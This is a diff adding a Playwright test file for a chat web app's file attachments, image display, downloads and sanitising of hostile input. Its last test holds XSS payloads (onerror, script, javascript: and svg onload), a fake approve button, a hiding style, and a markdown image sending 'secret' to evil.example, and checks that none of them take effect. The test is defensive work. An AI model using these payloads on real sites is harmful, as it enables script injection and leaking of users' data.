@@ -1,0 +1,92 @@
+"""Files on the page, and names and text that want to do harm."""
+
+from __future__ import annotations
+
+import pytest
+from playwright.async_api import FilePayload, Page, expect
+
+from core.messages import Answer, Card, File
+from tests.web.house import House, Turn
+from tests.web.page.browser import say
+
+pytestmark = pytest.mark.asyncio(loop_scope="session")
+
+
+async def test_files_by_button_drop_and_paste(house: House, page: Page) -> None:
+    await page.set_input_files(
+        "#files", FilePayload(name="a.csv", mimeType="text/csv", buffer=b"1")
+    )
+    for kind in ("drop", "paste"):
+        await page.evaluate(
+            """kind => {
+                const data = new DataTransfer();
+                data.items.add(new File(["x"], `${kind}.txt`, { type: "text/plain" }));
+                const event = kind === "drop"
+                  ? new DragEvent(kind, { dataTransfer: data, bubbles: true })
+                  : new ClipboardEvent(kind, { clipboardData: data, bubbles: true });
+                document.getElementById("text").dispatchEvent(event);
+            }""",
+            kind,
+        )
+    names = page.locator("#attached bdi")
+    await expect(names).to_have_text(["a.csv", "drop.txt", "paste.txt"])
+    await page.get_by_role("button", name="Remove drop.txt").click()
+    await say(page, "see")
+    await expect(page.locator(".body")).to_have_text("You said: see")
+    await expect(page.locator(".said .files a")).to_have_text(["a.csv", "paste.txt"])
+    await expect(names).to_have_count(0)
+    assert [a.name for a in house.rows[1].message.attachments] == ["a.csv", "paste.txt"]
+
+
+PNG = bytes.fromhex(
+    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489"
+    "0000000d4944415478da63fccfc0f01f0005050201c2b0a5f70000000049454e44ae426082"
+)
+
+
+async def test_plots_are_shown_and_other_files_are_links(house: House, page: Page) -> None:
+    async def script(turn: Turn) -> Answer:
+        where, owner = turn.message.address.conversation, turn.message.author
+        plot = await house.files.put("e", "plot.png", "image/png", PNG, owner, where)
+        page_ = await house.files.put("e", "x.html", "text/html", b"<script>", owner, where)
+        return Answer("Here.", files=(plot, page_))
+
+    house.script = script
+    await say(page, "draw")
+    image = page.get_by_role("img", name="plot.png")
+    await expect(image).to_be_visible()
+    assert await image.evaluate("image => image.decode().then(() => image.naturalWidth)") == 1
+    async with page.expect_download() as download:
+        await page.get_by_role("link", name="x.html").click()
+    assert (await download.value).suggested_filename == "x.html"
+
+
+HOSTILE = """<img src=x onerror="document.title='owned'"> <script>document.title='owned'</script>
+[click](javascript:document.title='owned') ![leak](https://evil.example/?q=secret)
+<button class="approve">Approve</button> <style>body{display:none}</style>
+<svg onload="document.title='owned'"> [x](https://a.example" onmouseover="document.title='owned')
+"""
+
+
+async def test_hostile_markdown_and_file_names_do_nothing(house: House, page: Page) -> None:
+    name = "<img src=x onerror=\"document.title='owned'\">.txt"
+
+    async def script(turn: Turn) -> Answer:
+        await turn.show(HOSTILE)
+        cards = (
+            Card("abc234", "change", HOSTILE, HOSTILE, ({"before": {HOSTILE: 1}, "after": {}},)),
+        )
+        return Answer(HOSTILE, cards=cards, files=(File("f", name, "image/svg+xml", 1),))
+
+    house.script = script
+    asked: list[str] = []
+    page.on("request", lambda request: asked.append(request.url))
+    await page.set_input_files("#files", FilePayload(name=name, mimeType="x/y", buffer=b"1"))
+    await say(page, HOSTILE)
+    await expect(page.locator(".card")).to_be_visible()
+    await page.reload()
+    await expect(page.locator(".card")).to_be_visible()
+    assert await page.title() != "owned"
+    assert await page.locator("main button.approve, main script, main style, main svg").count() == 0
+    assert await page.locator("main img").count() == 0
+    assert all(url.startswith(house.web.address) for url in asked)
